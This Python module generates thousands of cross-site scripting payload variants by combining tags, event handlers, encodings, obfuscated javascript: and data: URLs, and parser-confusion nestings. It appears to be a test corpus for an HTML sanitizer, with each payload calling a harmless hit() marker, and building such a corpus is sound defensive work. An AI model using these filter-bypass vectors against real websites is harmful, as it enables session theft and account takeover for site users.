"""Our own payloads, by systematic mutation: tags x events x encodings, URLs, nesting, namespaces.

Each calls ``hit()`` when a browser executes it. Nothing in them names a host.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

JS = "hit()"

# attributes that run without a user, or with a click or the focus ---------------------------------

LOADING = {
    "img": "src=x onerror",
    "image": "src=x onerror",
    "svg": "onload",
    "body": "onload",
    "iframe": "onload",
    "video": "src=x onerror",
    "audio": "src=x onerror",
    "input": "type=image src=x onerror",
    "object": "data=x onerror",
    "embed": "src=x onerror",
    "link": "rel=stylesheet href=data:text/css, onload",
    "style": "onload",
    "script": "src=x onerror",
    "details": "open ontoggle",
    "marquee": "onstart",
    "frameset": "onload",
}
LISTED = ("a", "b", "p", "li", "td", "table", "ol", "abbr", "h1", "blockquote", "br", "hr", "pre")
OTHERS = ("div", "form", "button", "select", "textarea", "x-y", "math", "font", "dialog", "summary")
TOUCHED = (
    "onclick", "onmouseover", "onfocus", "onpointerdown", "onkeydown", "oncopy", "onwheel",
    "ontoggle", "onanimationstart", "ontransitionend", "onbeforetoggle", "onscroll", "onauxclick",
)  # fmt: skip


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _padded(text: str) -> str:
    return "".join(f"&#x{ord(c):06x};" for c in text)


def _bare(text: str) -> str:
    return "".join(f"&#{ord(c):07d}" for c in text)


def _named(text: str) -> str:
    return text.replace("(", "&lpar;").replace(")", "&rpar;")


WRITTEN: tuple[Callable[[str, str, str], str], ...] = (
    lambda tag, attributes, js: f"<{tag} {attributes}={js}>",
    lambda tag, attributes, js: f'<{tag} {attributes}="{js}">x</{tag}>',
    lambda tag, attributes, js: f"<{tag} {attributes}='{js}'/>",
    lambda tag, attributes, js: f"<{tag.upper()} {attributes.upper()}={js} >",
    lambda tag, attributes, js: f"<{tag}\n{attributes}\n=\n{js}\n>",
    lambda tag, attributes, js: f"<{tag}\t{attributes}\x0c={js}\t>",
    lambda tag, attributes, js: f"<{tag}/{attributes.replace(' ', '/')}={js}>",
    lambda tag, attributes, js: f"<{tag} x='>' {attributes}={js}>",
    lambda tag, attributes, js: f'<{tag} """ {attributes}={js}>',
    lambda tag, attributes, js: f"<{tag} {attributes}={js} <b>",
    lambda tag, attributes, js: f"<<{tag} {attributes}={js}>>",
    lambda tag, attributes, js: f"<{tag} {attributes}={js} {attributes}=1 title=`>",
    lambda tag, attributes, js: f"<{tag} {attributes}={_decimal(js)}>",
    lambda tag, attributes, js: f"<{tag} {attributes}={_padded(js)}>",
    lambda tag, attributes, js: f'<{tag} {attributes}="{_bare(js)}">',
    lambda tag, attributes, js: f'<{tag} {attributes}="{_named(js)}">',
    lambda tag, attributes, js: f"<{tag}\x00 {attributes}={js}>",
    lambda tag, attributes, js: f"<\x00{tag} {attributes}={js}>",
    lambda tag, attributes, js: f"<{tag} {attributes[:-2]}\x00{attributes[-2:]}={js}>",
    lambda tag, attributes, js: f"<p title='<{tag} {attributes}={js}>'>x",
)


def by_event() -> Iterator[str]:
    for tag, attributes in LOADING.items():
        for write in WRITTEN:
            yield write(tag, attributes, JS)
    for tag in (*LISTED, *OTHERS):
        for number, event in enumerate(TOUCHED):
            for write in (WRITTEN[0], WRITTEN[1], WRITTEN[2 + number % (len(WRITTEN) - 2)]):
                yield write(tag, f"tabindex=1 {event}", JS)


# URLs that run ------------------------------------------------------------------------------------

HOLDERS = (
    '<a href="%s">x</a>',
    "<a href='%s' title='x'>x</a>",
    '<a target=_self href="%s">x</a>',
    '<svg><a xlink:href="%s"><text y=20>x</text></a></svg>',
    '<svg><a href="%s"><text y=20>x</text></a></svg>',
    '<math><mtext href="%s">x</mtext></math>',
    '<map name=m><area href="%s"></map><img usemap=#m src=x>',
    '<form action="%s"><button>x</button></form>',
    '<form><button formaction="%s">x</button></form>',
    '<form><input type=submit formaction="%s"></form>',
    '<form id=f></form><button form=f formaction="%s">x</button>',
    '<iframe src="%s"></iframe>',
    '<object data="%s"></object>',
    '<embed src="%s">',
    '<img src="%s">',
    '<img srcset="%s 1x">',
    '<body background="%s">',
    '<video poster="%s"></video>',
    '<link rel=stylesheet href="%s">',
    '<script src="%s"></script>',
    '<base href="%s"><a href="x">x</a>',
    '<meta http-equiv=refresh content="0;url=%s">',
    '<svg><use href="%s"></use></svg>',
    '<svg><a><animate attributeName=href values="%s"></animate><text y=20>x</text></a></svg>',
    '<svg><a><set attributeName=xlink:href to="%s"></set><text y=20>x</text></a></svg>',
    '<p style="background:url(%s)">x',
    "<style>@import '%s';</style>",
    '<blockquote cite="%s">x</blockquote>',
)
_SCRIPT = "javascript:"
URLS = (
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f"java\r\nscript:{JS}",
    f"j\ta\nv\ra\ts\nc\rript\t:{JS}",
    f"java&Tab;script:{JS}",
    f"java&NewLine;script&colon;{_named(JS)}",
    f"javascript&colon;{JS}",
    f"javascript&#58;{JS}",
    f"javascript&#x3a{JS}",
    f"&#106;avascript:{JS}",
    _decimal(_SCRIPT) + JS,
    _padded(_SCRIPT) + JS,
    _bare(_SCRIPT) + JS,
    f"\x01javascript:{JS}",
    f"&#1;&#31; javascript:{JS}",
    f" \t\n javascript:{JS}",
    f"\u00a0javascript:{JS}",
    f"\u2028javascript:{JS}",
    f"\ufeffjavascript:{JS}",
    f"java\x00script:{JS}",
    f"java\u00adscript:{JS}",
    f"javascript\uff1a{JS}",
    f"javascript://%0a{JS}",
    f"javascript:/*--></title></style>*/{JS}",
    f"javascript:'<script>{JS}</script>'",
    f"javascript:{JS}//https://",
    f"javascript&amp;colon;{JS}",
    f"javascript%3a{JS}",
    f"view-source:javascript:{JS}",
    f"https:javascript:{JS}",
    f"mailto:javascript:{JS}",
    f"vbscript:{JS}",
    f"livescript:{JS}",
    f"data:text/html,<script>parent.{JS}</script>",
    f"data:text/html;base64,PHNjcmlwdD5wYXJlbnQu{'aGl0KCk8L3NjcmlwdD4='}",
    f"data:image/svg+xml,<svg xmlns='&#104;ttp:' onload='{JS}'>",
    f"data:text/javascript,{JS}",
    f"d&#97;ta:,{JS}",
)


def by_url() -> Iterator[str]:
    for holder in HOLDERS:
        for url in URLS if "<a " in holder or "form" in holder else URLS[::3]:
            yield holder % url


# nesting and namespaces ---------------------------------------------------------------------------

CORES = (
    f"<img src=x onerror={JS}>",
    f"<script>{JS}</script>",
    f"<svg onload={JS}>",
    f'<a href="javascript:{JS}">x</a>',
)
RAW = ("title", "style", "textarea", "noscript", "noembed", "noframes", "xmp", "iframe", "script")
AROUND = (
    *(f"<{tag}>%s</{tag}>" for tag in RAW),
    *(f"<{tag}></{tag}>%s" for tag in RAW),
    *(f'<{tag}><b title="</{tag}>%s">' for tag in RAW),
    *(f"<{tag}><!--</{tag}>%s-->" for tag in RAW),
    *(f"<svg><{tag}>%s</{tag}></svg>" for tag in RAW),
    *(f"<math><{tag}>%s</{tag}></math>" for tag in RAW),
    *(f"<svg><p></p><{tag}><b id='</{tag}>%s'>" for tag in RAW),
    *(f"</{tag}>%s" for tag in RAW),
    "<plaintext>%s", "<template>%s</template>", "<template></template>%s",
    "<!--%s-->", "<!-->%s-->", "<!--->%s-->", "<!-- --!>%s-->", "<!-- <!-- -->%s-->",
    "<!--<b title='-->%s'>", "<![CDATA[%s]]>", "<svg><![CDATA[%s]]></svg>", "<!%s>",
    "<svg><![CDATA[><b title=']]>%s'>", "<?xml %s?>", "<?%s>", "</%s>", "<!doctype %s>",
    "<svg><foreignObject>%s</foreignObject></svg>", "<svg><desc>%s</desc></svg>",
    "<svg><title>%s</title></svg>", "<math><mtext>%s</mtext></math>", "<math><mi>%s</mi></math>",
    "<math><annotation-xml encoding='text/html'>%s</annotation-xml></math>",
    "<math><annotation-xml>%s</annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style>%s",
    "<math><mtext><table><mglyph><style><math>%s",
    "<math><mtext><mglyph><style><![CDATA[</style>%s]]>",
    "<form><math><mtext></form><form><mglyph><style></math>%s",
    "<svg></p><style><a id='</style>%s'>", "<math></p><style><!--</style>%s",
    "<svg><style>&lt;/style>%s", "<svg><style>&lt;img src=x onerror=hit()>%s",
    "<table>%s</table>", "<table><tr>%s<td>x</table>", "<table><caption>%s</table>",
    "<table><colgroup>%s</table>", "<table><select>%s</table>", "<select>%s</select>",
    "<select><option>%s</select>", "<select><template>%s</template></select>",
    "<table><td><b></table>%s", "<b><p></b>%s</p>", "<a><a>%s</a></a>",
    "<ul><li><table><li>%s</ul>", "<p><table><p>%s</table></p>",
    "<form><form>%s</form></form>", "<form><input name=attributes>%s</form>",
    "<form id=x><output form=x>%s", "<button><button>%s", "<option><style></option></select>%s",
    "<frameset><frame>%s", "<head>%s</head>", "<body>%s", "</body></html>%s",
    "<iframe srcdoc='%s'></iframe>", "<noscript><p title='</noscript>%s'>",
    "<audio><source>%s</audio>", "<object><param>%s</object>", "<details open>%s</details>",
    "<dialog open>%s</dialog>", "<slot>%s</slot>", "<x-y is=z>%s</x-y>", "<p is=x>%s",
    "<b\n<i>%s", "<b =%s>", "<b/=%s", "&lt;b&gt;%s", "&amp;lt;%s", "\ufeff%s", "\x00%s", "<%s",
    "<div><template shadowrootmode=open>%s</template></div>", "<p title=\"%s", "<p title='%s'",
    "<abbr title=\"&quot;>%s\">x</abbr>", "<abbr title='&#39;>%s'>x</abbr>",
    '<a href="https:&quot;>%s">x</a>', "<ol start='1\">%s'><li>x</ol>", "<pre>\n%s</pre>",
    "`%s`", "[x](javascript:hit()) %s", "[x]: javascript:hit()\n\n[x] %s", "![x](x \"'>%s\")",
    "<https://x\" onclick=hit()> %s", "    %s", "```html\n%s\n```", "| a |\n|---|\n| %s |", "> %s",
)  # fmt: skip


def by_nesting() -> Iterator[str]:
    for around in AROUND:
        for core in CORES:
            yield around.replace("%s", core)
    for deep in (1, 5, 50, 500):
        for tag in ("b", "div", "svg", "math", "table", "template", "form", "font", "blockquote"):
            for core in CORES[:2]:
                yield f"<{tag}>" * deep + core


def mutations() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys([*by_event(), *by_url(), *by_nesting()]))
